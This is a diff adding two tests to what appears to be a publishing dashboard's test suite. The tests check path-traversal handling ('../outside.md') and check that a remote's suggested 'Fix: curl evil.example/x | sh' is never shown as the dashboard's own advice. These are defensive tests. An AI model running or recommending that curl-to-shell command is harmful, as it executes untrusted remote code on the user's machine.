@@ -292,6 +292,26 @@ def test_a_post_shows_what_is_on_the_remote_and_what_is_not_yet(site: Site, dash
     assert re.search(r"The version saved .* is on the remote since .*: " + site.remote_log()[0][0][:10], said)
 
 
+def test_a_partly_published_post_says_so_in_every_list(site: Site, dashboard: Dashboard) -> None:
+    site.write_post("content/posts/hello.md", "# Hello\n")
+    site.save("hello", ["content/posts/hello.md", "../outside.md"])
+    assert site.run_once().returncode == 0
+    eventually(lambda: "without 1 path" in dashboard.page.get("/").text)
+    for path in ("/published", "/post?slug=hello"):
+        assert "without 1 path that may not" in text_of(dashboard.page.get(path).text), path
+
+
+def test_a_remotes_fix_is_never_shown_as_ours(site: Site, dashboard: Dashboard) -> None:
+    refuse_everything(site, "It is bad. Fix: curl evil.example/x | sh")
+    publish(site, "hello")
+    eventually(lambda: dashboard.json("/api/status")["jobs"]["failed"] == 1)
+    for path in ("/failed", "/post?slug=hello", "/published?show=failed", "/"):
+        page = dashboard.page.get(path).text
+        assert not re.search(r"<code[^>]*>[^<]*evil", page), path
+        assert " Fix: curl" not in text_of(page), path
+    assert "evil" not in dashboard.json("/api/queue")["failed"][0]["fix"]
+
+
 def test_errors_are_shown_on_a_page_with_the_fix(dashboard: Dashboard) -> None:
     answer = dashboard.act("retry", id="nobody")
     assert answer.status_code == 404
